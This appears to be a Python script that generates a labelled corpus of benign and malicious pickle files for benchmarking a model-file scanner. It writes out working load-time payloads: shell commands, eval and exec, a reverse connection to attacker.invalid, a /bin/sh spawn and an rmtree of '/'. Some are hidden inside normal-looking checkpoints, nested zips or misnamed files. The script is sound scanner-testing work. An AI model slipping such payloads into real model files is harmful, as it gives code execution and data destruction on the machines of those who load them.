"""Writes the pickle corpus for `bench/supply.py`: benign checkpoints and malicious
pickles, each labelled by its file name (`benign_*` / `malicious_*`).

Everything is produced by Python's own `pickle` (protocols 0 to 5), so the files are
what an attacker or a framework would really write. Torch is not needed: a stand-in
`torch._utils` module makes the same globals a real checkpoint imports.
"""
import collections
import functools
import io
import os
import pickle
import sys
import types
import zipfile

out = sys.argv[1]
os.makedirs(out, exist_ok=True)

# Stand-ins for the globals a PyTorch checkpoint imports.
torch = types.ModuleType("torch")
torch_utils = types.ModuleType("torch._utils")
sys.modules["torch"], sys.modules["torch._utils"] = torch, torch_utils


def _rebuild_tensor_v2(storage, offset, size, stride, requires_grad, hooks):
    return storage


_rebuild_tensor_v2.__module__ = "torch._utils"
torch_utils._rebuild_tensor_v2 = _rebuild_tensor_v2


class FloatStorage:
    pass


FloatStorage.__module__ = "torch"
torch.FloatStorage = FloatStorage


class Tensor:
    def __init__(self, n):
        self.n = n

    def __reduce__(self):
        return (_rebuild_tensor_v2, (b"\0" * 4 * self.n, 0, (self.n,), (1,), False, collections.OrderedDict()))


def state_dict(layers):
    return collections.OrderedDict(
        (f"model.layers.{i}.{p}.weight", Tensor(64)) for i in range(layers) for p in ("q_proj", "k_proj", "v_proj", "o_proj")
    )


class Call:
    """An object whose unpickling calls `fn(*args)`."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def torch_zip(payload: bytes, name="archive/data.pkl") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/version", "3\n")
        z.writestr(name, payload)
        z.writestr("archive/data/0", b"\0" * 256)
    return buf.getvalue()


def write(name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)


# Benign: state dicts in every protocol, raw and zipped, numpy-free and with plain
# Python containers, and configs saved with pickle.
for proto in range(0, 6):
    write(f"benign_state_dict_p{proto}.bin", pickle.dumps(state_dict(4), protocol=proto))
for proto in (2, 4):
    write(f"benign_torch_zip_p{proto}.pt", torch_zip(pickle.dumps(state_dict(8), protocol=proto)))
write("benign_big_state_dict.pth", pickle.dumps(state_dict(200), protocol=4))
write("benign_config.pkl", pickle.dumps({"lr": 3e-4, "layers": [1, 2, 3], "name": "tiny", "tags": {"a", "b"}}, protocol=4))
write("benign_optimizer.ckpt", torch_zip(pickle.dumps({"step": 10, "state": collections.OrderedDict(), "param_groups": [{"lr": 0.1}]}, protocol=2)))
write("benign_tokens.pkl", pickle.dumps([("hello", 1), ("world", 2)] * 500, protocol=5))
write("benign_legacy_two_pickles.pt", pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(state_dict(2), protocol=2))
write("benign_bytes.pkl", pickle.dumps(bytearray(b"x" * 10000), protocol=5))

# Malicious: a call on load, through every route an attacker has.
import builtins  # noqa: E402
import runpy  # noqa: E402
import socket  # noqa: E402
import subprocess  # noqa: E402
import webbrowser  # noqa: E402
import importlib  # noqa: E402
import pty  # noqa: E402
import shutil  # noqa: E402

payloads = {
    "os_system": Call(os.system, "echo pwned"),
    "eval": Call(builtins.eval, "__import__('os').system('id')"),
    "exec": Call(builtins.exec, "import os; os.system('id')"),
    "subprocess": Call(subprocess.Popen, ["id"]),
    "runpy": Call(runpy.run_path, "/tmp/x.py"),
    "webbrowser": Call(webbrowser.open, "http://attacker.invalid/"),
    "socket": Call(socket.create_connection, ("attacker.invalid", 4444)),
    "import_module": Call(importlib.import_module, "os"),
    "pty": Call(pty.spawn, "/bin/sh"),
    "shutil": Call(shutil.rmtree, "/"),
    "getattr": Call(builtins.getattr, Call(importlib.import_module, "os"), "system"),
    "partial": Call(functools.partial(os.system, "id")),
    "compile": Call(builtins.compile, "1", "x", "eval"),
}
for name, obj in payloads.items():
    for proto in (0, 2, 4):
        write(f"malicious_{name}_p{proto}.pkl", pickle.dumps(obj, protocol=proto))
# Hidden inside an otherwise normal checkpoint.
sd = state_dict(4)
sd["model.extra"] = payloads["os_system"]
write("malicious_in_state_dict.bin", pickle.dumps(sd, protocol=2))
write("malicious_torch_zip.pt", torch_zip(pickle.dumps(sd, protocol=2)))
write("malicious_torch_zip_odd_entry.pth", torch_zip(pickle.dumps(sd, protocol=4), name="archive/constants.pkl"))
# An archive in an archive, under names that do not say pickle.
inner = io.BytesIO()
with zipfile.ZipFile(inner, "w") as z:
    z.writestr("weights.dat", pickle.dumps(payloads["eval"], protocol=4))
outer = io.BytesIO()
with zipfile.ZipFile(outer, "w") as z:
    z.writestr("model/inner.zip", inner.getvalue())
write("malicious_nested_zip.ckpt", outer.getvalue())
# Odd extensions and positions.
write("malicious_named_like_text.txt", pickle.dumps(payloads["subprocess"], protocol=2))
write("malicious_second_pickle.pt", pickle.dumps(1, protocol=2) + pickle.dumps(payloads["os_system"], protocol=2))
print(f"corpus: {len(os.listdir(out))} files in {out}")
